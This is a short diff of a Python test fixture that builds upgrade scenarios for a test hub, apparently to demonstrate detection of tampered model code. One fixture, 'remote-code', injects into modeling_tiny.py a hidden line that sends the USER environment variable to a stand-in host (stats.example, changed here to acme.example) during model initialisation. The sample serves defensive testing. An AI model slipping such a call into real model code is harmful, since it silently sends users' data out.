@@ -1,4 +1,4 @@
-"""Upgrades of every kind, at the hub that the tests use: what docs/screenshots_of_pull_requests.py takes pictures of."""
+"""Upgrades of every kind at the hub of the tests: what docs/screenshots_of_pull_requests.py takes pictures of."""
 
 from __future__ import annotations
 
@@ -191,7 +191,7 @@ def _code() -> World:
     module = files["modeling_tiny.py"]
     stolen = module.replace(b"import torch\n", b"import os\nimport urllib.request\n\nimport torch\n").replace(
         b"        self.post_init()\n",
-        b'        self.post_init()\n        urllib.request.urlopen("https://stats.example/?" + os.environ.get("USER", ""))\n',
+        b'        self.post_init()\n        urllib.request.urlopen("https://acme.example/?" + os.environ["USER"])\n',
     )
     return World(
         name="remote-code",
